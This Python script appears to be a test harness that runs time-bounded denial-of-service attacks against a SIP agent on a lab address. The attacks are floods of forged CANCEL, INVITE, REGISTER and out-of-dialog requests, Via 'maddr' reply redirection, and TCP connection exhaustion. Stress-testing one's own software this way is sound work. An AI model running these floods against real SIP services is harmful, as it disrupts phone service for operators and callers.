#!/usr/bin/python3
"""Attacks of outsiders, and of a device that is let in, on a SIP agent, each bounded in number and time.

    sip_attacks.py ATTACK HOST PORT SECONDS SOURCE…

Prints one line of JSON: what was sent, and what came back. ATTACK is one of the functions below.
"""
import json
import select
import socket
import sys
import time

from client import connect

# The datagrams of a second.
RATE = 8000


def message(method, number, source, via="", to_tag="", headers=""):
    """The bytes of a request that begins a transaction of its own."""
    return (
        f"{method} sip:desk@10.66.0.1 SIP/2.0\r\nVia: SIP/2.0/UDP {source}:5099;branch=z9hG4bK{method}{number};rport{via}\r\n"
        f"From: <sip:x@{source}>;tag={number}\r\nTo: <sip:desk@10.66.0.1>{to_tag}\r\nCall-ID: {method}-{number}@{source}\r\n"
        f"CSeq: 1 {method}\r\nMax-Forwards: 70\r\nContact: <sip:x@{source}:5099>\r\n{headers}Content-Length: 0\r\n\r\n"
    ).encode()


class Attack:
    def __init__(self, host, port, seconds, sources):
        self.host, self.port, self.sources = host, port, sources
        self.end = time.monotonic() + seconds
        self.counts = {"sent": 0, "bytes sent": 0, "answers": 0, "bytes answered": 0}

    def flood(self, make):
        """Sends make(number) from all sources in turn at RATE, reading what comes back."""
        sockets = []
        for source in self.sources:
            opened = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            opened.setblocking(False)
            opened.bind((source, 5099))
            sockets.append(opened)
        began, number = time.monotonic(), 0
        while time.monotonic() < self.end:
            due = int((time.monotonic() - began) * RATE)
            while number < due:
                octets = make(number, self.sources[number % len(self.sources)])
                try:
                    sockets[number % len(sockets)].sendto(octets, (self.host, self.port))
                    self.counts["sent"] += 1
                    self.counts["bytes sent"] += len(octets)
                except OSError:
                    pass
                number += 1
            for opened in select.select(sockets, [], [], 0.002)[0]:
                try:
                    while True:
                        octets = opened.recv(65536)
                        self.counts["answers"] += 1
                        self.counts["bytes answered"] += len(octets)
                except OSError:
                    pass

    # The attacks.

    def cancels(self):
        """CANCELs of nothing: each would be a transaction if it were remembered."""
        self.flood(lambda number, source: message("CANCEL", number, source))

    def dialogs(self):
        """Requests in dialogs that do not exist."""
        methods = ("BYE", "INFO", "INVITE", "OPTIONS", "FOO")
        self.flood(lambda number, source: message(methods[number % 5], number, source, to_tag=";tag=none"))

    def elsewhere(self):
        """Requests whose Via names another place for the answer."""
        places = (";maddr=10.67.0.2", ";maddr=239.9.9.9", ";received=10.67.0.2", ";maddr=127.0.0.1")
        methods = ("CANCEL", "OPTIONS", "INVITE", "BYE")
        self.flood(lambda number, source: message(methods[number // 4 % 4], number, source, via=places[number % 4]))

    def invites(self):
        """Calls of an allowed device to a peer that is not there."""
        self.flood(lambda number, source: message("INVITE", number, source))

    def names(self):
        """Registrations of names, each another one, from an allowed device."""
        def register(number, source):
            return message("REGISTER", number, source).replace(b"sip:desk@10.66.0.1>", b"sip:n%d@10.66.0.1>" % number)
        self.flood(register)

    def connections(self):
        """As many connections as it can get, kept open with four bytes each."""
        kept = []
        for number in range(5000):
            if time.monotonic() >= self.end:
                break
            try:
                made = connect(self.host, self.port, self.sources[number % len(self.sources)], timeout=2)
                made.sendall(b"\r\n\r\n")
                kept.append(made)
            except OSError as error:
                name = type(error).__name__
                self.counts[name] = self.counts.get(name, 0) + 1
        self.counts["connected"] = len(kept)
        time.sleep(max(0.0, self.end - time.monotonic()))


def main():
    attack = Attack(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), sys.argv[5:])
    getattr(attack, sys.argv[1])()
    print(json.dumps(attack.counts))


main()
